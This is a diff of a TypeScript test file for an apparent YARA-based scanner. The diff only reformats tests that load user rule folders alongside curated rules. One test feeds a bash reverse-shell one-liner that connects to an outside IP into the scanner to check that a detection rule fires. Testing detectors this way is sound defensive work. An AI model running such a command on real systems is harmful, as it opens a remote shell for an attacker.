@@ -17,7 +17,9 @@ describe('parseYaraDirs', () => {
 
 describe('user rule folders', () => {
   let root: string;
-  beforeEach(() => { root = mkdtempSync(join(tmpdir(), 'autosoc-yara-dirs-')); });
+  beforeEach(() => {
+    root = mkdtempSync(join(tmpdir(), 'autosoc-yara-dirs-'));
+  });
   afterEach(() => rmSync(root, { recursive: true, force: true }));
 
   it('lists .yar and .yara files recursively, skipping hidden entries and other extensions', () => {
@@ -47,9 +49,13 @@ describe('user rule folders', () => {
     expect(scanner.problems[1].error).toMatch(/conflicts with other rule files: .*duplicate rule `autosoc_eicar_test_file`/);
     expect(scanner.files).toContain(join(root, '1-good.yar'));
     expect(scanner.files).toContain(join(root, '4-also-good.yar'));
-    expect(scanWithYara(Buffer.from('GOOD-MARKER ALSO-GOOD'), scanner).summary).toMatch(/user_also_good.*user_good|user_good.*user_also_good/);
+    expect(scanWithYara(Buffer.from('GOOD-MARKER ALSO-GOOD'), scanner).summary).toMatch(
+      /user_also_good.*user_good|user_good.*user_also_good/,
+    );
     // The curated rules still run next to the user's.
-    expect(scanWithYara(Buffer.from('bash -i >& /dev/tcp/198.51.100.2/443 0>&1'), scanner).summary).toContain('autosoc_reverse_shell_one_liner');
+    expect(scanWithYara(Buffer.from('bash -i >& /dev/tcp/198.51.100.2/443 0>&1'), scanner).summary).toContain(
+      'autosoc_reverse_shell_one_liner',
+    );
   });
 
   it('compiles once and reuses the rules until a file is touched, added or removed', () => {
